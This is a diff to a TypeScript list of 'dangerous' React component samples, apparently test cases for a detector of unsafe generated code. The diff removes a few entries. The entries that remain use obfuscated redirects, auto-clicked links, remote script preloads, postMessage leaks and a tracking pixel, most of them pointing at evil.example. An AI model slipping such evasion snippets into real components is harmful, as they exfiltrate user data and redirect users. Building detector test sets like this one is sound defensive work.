@@ -17,10 +17,6 @@ export const MORE_NETWORK_G: readonly Dangerous[] = [
   ],
   [
     "redirect",
-    "export const A=({u})=>{const f=Object.assign(document.createElement('form'),{action:u});document.body.append(f);f.submit();return null}",
-  ],
-  [
-    "redirect",
     "export const A=({u})=><svg><a id='go' href={u}/><g ref={()=>document.getElementById('go').dispatchEvent(new Event('click'))}/></svg>",
   ],
   [
@@ -31,11 +27,6 @@ export const MORE_NETWORK_G: readonly Dangerous[] = [
     "redirect",
     "export const A=({u})=>{const r=useRef(null);useEffect(()=>r.current.click(),[]);return <a ref={r} href='https://evil.example'>.</a>}",
   ],
-  [
-    "redirect",
-    "const r={['http-'+'equiv']:'Refresh',content:'0;url=//evil.example'};export const A=()=>React.createElement('meta',r)",
-  ],
-  ["redirect", "export const A=p=><meta {...Object.assign({},{httpEquiv:'refresh'},p)}/>"],
   ["redirect", "export const A=({k,v})=>{window[k]=v;return null}"],
   ["redirect", "export const A=({o})=>{for(const [k,v] of Object.entries(o)) self[k]=v;return null}"],
   ["redirect", "export const A=({o})=>{Reflect.set(window,o.k,o.v);return null}"],
@@ -44,10 +35,6 @@ export const MORE_NETWORK_G: readonly Dangerous[] = [
   [
     "external-request",
     "export const A=()=><i data-api='https://evil.example/c' onClick={e=>fetch(e.currentTarget.getAttribute('data-api'))}/>",
-  ],
-  [
-    "external-request",
-    "export const A=()=><i data-h='evil.example' onClick={({currentTarget:{dataset}})=>fetch('https://'+dataset.h)}/>",
   ],
   [
     "external-request",
@@ -106,16 +93,11 @@ export const MORE_NETWORK_G: readonly Dangerous[] = [
     "external-request",
     "export const A=()=><link {...{rel:'modulepreload',href:'https://evil.example/m.js'}}/>",
   ],
-  ["external-request", "export const A=({v})=>{parent.postMessage.call(parent,v,'*');return null}"],
   [
     "external-request",
     "const send=top.postMessage.bind(top);export const A=({v})=>{send({v},'*');return null}",
   ],
   ["external-request", "export const A=({v})=>{opener?.['post'+'Message']([v],'*');return null}"],
-  [
-    "external-request",
-    "export const A=({v})=>{Reflect.apply(Reflect.get(parent,'postMessage'),parent,[v,'*']);return null}",
-  ],
   [
     "external-request",
     "export const A=({t})=><img alt='' width={1} height={1} src={`https://evil.example/p?u=${t}`}/>",
